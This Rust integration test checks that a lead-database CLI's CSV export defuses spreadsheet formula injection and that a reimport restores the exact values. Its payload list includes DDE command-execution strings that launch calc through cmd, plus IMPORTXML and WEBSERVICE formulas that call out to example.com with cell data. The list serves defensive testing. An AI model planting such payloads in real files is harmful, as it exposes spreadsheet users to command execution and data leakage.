//! Names that a spreadsheet would take for formulas: an export disarms them all, and an import
//! gives back exactly what there was.

use std::path::Path;
use std::process::Command;

use tempfile::TempDir;

/// Beginnings of formulas, as people hide them.
const PAYLOADS: [&str; 40] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.com\",\"x\")",
    "=IMPORTXML(CONCAT(\"http://example.com/\",A1),\"//a\")",
    "=WEBSERVICE(\"http://example.com\")",
    "=DDE(\"cmd\";\"/C calc\";\"\")",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "   +1",
    "\u{a0}=1+1",
    "\u{3000}=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "'=1+1",
    "''=1+1",
    " '=1+1",
    "\"=1+1\"",
    "=\"a\"&\"b\"",
    "=1+1;2",
    "=1,2",
    "=1\n+2",
    "x\n=1+1",
    "+48 600 700 800",
    "-5",
    "@anna",
    "=",
    "+",
    "-",
    "@",
    "=A1 — \"цитата\", и ещё",
];

/// The cells of a file that a spreadsheet would compute.
fn armed(file: &str) -> Vec<String> {
    let mut reader =
        csv::ReaderBuilder::new().from_reader(file.trim_start_matches('\u{feff}').as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let cells = rows.iter().flat_map(csv::StringRecord::iter);
    let is_armed = |cell: &&str| {
        let begins = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
        cell.trim_start_matches([' ', '\u{a0}', '\u{3000}']).starts_with(begins)
    };
    cells.filter(is_armed).map(str::to_owned).collect()
}

struct Place<'a>(&'a Path);

impl Place<'_> {
    fn run(&self, db: &str, args: &[&str]) -> String {
        let output = Command::new(env!("CARGO_BIN_EXE_voronka"))
            .env_clear()
            .env("TZ", "UTC")
            .env("HOME", self.0)
            .current_dir(self.0)
            .args(["--db", db])
            .args(args)
            .output()
            .unwrap();
        assert!(output.status.success(), "{args:?}: {output:?}");
        String::from_utf8(output.stdout).unwrap()
    }
}

#[test]
fn no_cell_of_an_export_is_a_formula_and_all_come_back() {
    let folder = TempDir::new().unwrap();
    let place = Place(folder.path());
    for payload in PAYLOADS {
        let [title, name, comment, company] = ["title", "last_name", "comment", "company_name"]
            .map(|field| format!("{field}={payload}"));
        let tags = format!("tags={}", payload.replace([',', '|'], " "));
        let sets = [&title, &name, &comment, &company, &tags];
        let sets: Vec<&str> = sets.iter().flat_map(|set| ["--set", set.as_str()]).collect();
        place.run("one.db", &[&["lead", "add"], &sets[..]].concat());
    }
    place.run(
        "one.db",
        &["lead", "edit", "1", "--set", "amount=-5", "--set", "phone=+48 600 700 800"],
    );

    let file = place.run("one.db", &["export", "leads"]);
    assert_eq!(armed(&file), Vec::<String>::new());
    assert!(armed(&place.run("one.db", &["export", "leads", "--raw"])).len() >= PAYLOADS.len());

    std::fs::write(folder.path().join("leads.csv"), &file).unwrap();
    place.run("two.db", &["import", "leads.csv", "--as", "leads"]);
    let (one, two) = (values(&place, "one.db"), values(&place, "two.db"));
    assert_eq!(one.len(), PAYLOADS.len());
    assert_eq!(one, two);

    // Without the apostrophe and back there would be other values.
    let careless = file.replace("'=1+1", "1+1");
    std::fs::write(folder.path().join("leads.csv"), careless).unwrap();
    place.run("three.db", &["import", "leads.csv", "--as", "leads"]);
    assert_ne!(values(&place, "three.db"), one);
}

/// The leads of a database, value by value. Blanks around a value are not kept by an import.
fn values(place: &Place, db: &str) -> Vec<Vec<(String, String)>> {
    let lines = place.run(db, &["export", "leads", "--format", "json"]);
    let row = |line: &str| {
        let row: serde_json::Map<String, serde_json::Value> = serde_json::from_str(line).unwrap();
        let trimmed = |value: serde_json::Value| {
            value.as_str().map_or_else(|| value.to_string(), |text| text.trim().to_owned())
        };
        row.into_iter().map(|(field, value)| (field, trimmed(value))).collect()
    };
    lines.lines().map(row).collect()
}
